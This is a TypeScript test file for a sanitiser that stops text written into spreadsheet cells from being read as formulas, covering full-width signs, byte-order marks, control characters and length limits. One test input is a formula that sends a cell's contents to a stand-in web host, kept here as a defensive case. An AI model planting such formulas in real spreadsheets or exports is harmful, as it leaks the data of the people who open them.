import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { neutralise, textOf } from '../../src/domain/neutralise'

describe('a text on its way into a cell', () => {
  test.each([
    '=IMPORTDATA("http://example.test/?"&B2)',
    '  =1+1',
    '\t=1+1',
    '\n@SUM(A1)',
    '+86 139',
    '-1+1',
    '@某人',
    '＝1+1',
    '＋1',
    '－1',
    '＠x',
    '\ufeff=1',
    '#N/A',
  ])('%j starts no formula', (text) => {
    expect(neutralise(text)).toBe(`'${text}`)
  })

  test('control characters are left out, and hide no formula', () => {
    expect(neutralise('\u0000\u0001=1')).toBe("'=1")
    expect(neutralise('会\u0007议\n二')).toBe('会议\n二')
  })

  test.each([
    '001',
    '110000000000000000',
    '3-4',
    '11.20',
    '2024-11-20',
    '2024/11/20 9:00',
    '2024年11月20日',
    '9:30',
    '上午9:30',
    '1,000,000',
    '5%',
    '¥5',
    '1e5',
    '9:30 pm',
    '20-Nov-2024',
    '１２',
    'TRUE',
    'false',
  ])('%j stays the text it is', (text) => {
    expect(neutralise(text)).toBe(`'${text}`)
  })

  test("an apostrophe of the text's own is kept", () => {
    expect(textOf(neutralise("'x"))).toBe("'x")
  })

  test.each([
    '全区项目推进会',
    '第47周',
    '3人受伤',
    'A-1',
    '安区督〔2024〕1号',
    '',
    '上午',
    '年月',
  ])('%j needs nothing', (text) => {
    expect(neutralise(text)).toBe(text)
  })

  test('what no cell can hold is cut', () => {
    expect(neutralise('会'.repeat(60_000)).length).toBeLessThanOrEqual(50_000)
    expect(neutralise('1'.repeat(60_000)).length).toBeLessThanOrEqual(50_000)
  })

  const odd = fc.string({ unit: fc.constantFrom(...Array.from('=+-@＝\'"\t\u0001 \ufeff1年A会')) })

  test('never begins as a formula does', () => {
    fc.assert(
      fc.property(fc.oneof(odd, fc.string()), (text) => {
        expect(neutralise(text)).not.toMatch(/^[\s\ufeff]*[=+\-@＝＋－＠]/)
      }),
    )
  })

  test('is shown as it was, control characters aside', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: fc.constantFrom(...Array.from('=+-@＝\'" 1年A会')) }),
        (text) => {
          expect(textOf(neutralise(text))).toBe(text)
        },
      ),
    )
  })
})
